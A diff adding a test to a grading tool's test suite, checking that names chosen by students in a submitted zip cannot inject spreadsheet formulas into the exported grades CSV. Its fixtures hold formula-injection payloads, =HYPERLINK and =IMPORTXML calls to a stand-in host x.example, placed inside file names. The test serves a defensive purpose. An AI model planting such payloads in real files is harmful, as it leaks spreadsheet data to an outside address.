@@ -129,3 +129,26 @@ def test_only_one_lesson_is_collected_when_asked(course, tmp_path):
     assert grading.collect(inbox, lesson=B, paths=course, on_skip=lambda m: None) == [("alice", B)]
     assert [d for _, _, d in _not_collected(course)] == ["x/../y.ipynb in class.zip: unsafe path (absolute, or "
                                                          "with '..'): refused"]
+
+
+def test_no_cell_of_the_exported_csv_starts_a_spreadsheet_formula(course, tmp_path):
+    """The instructor opens grades.csv in a spreadsheet. A name a student chose (a folder, a zip entry)
+    that starts with = + - @ would be read there as a formula (=IMPORTXML(…) sends the sheet's cells
+    to any address): no cell of the export starts a formula, and no student id starts with one."""
+    inbox = _zip(tmp_path / "class.zip", {
+        f'=HYPERLINK("http://x.example/?"&B2)/{A}.ipynb': b"a",
+        f"+1+2/{A}.ipynb": b"b",
+        f"-bob/{A}.ipynb": b"c",
+        f"@SUM/{A}.ipynb": b"d",
+        "=IMPORTXML(\"http://x.example\").ipynb": b"no student folder",
+        f"alice/{A}.ipynb": b"ok",
+    })
+    collected = grading.collect(inbox, paths=course)
+    assert all(not student[0] in "=+-@" for student, _ in collected), collected
+    out = grading.export(tmp_path / "grades.csv", paths=course)
+    with open(out, newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert any("IMPORTXML" in c for c in cells), cells  # the entry is still listed, as text
+    starting = [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert not starting, starting
+    assert student_id("-bob") == "bob" and student_id("@@x") == "x" and student_id("a-b+c@d") == "a-b+c@d"
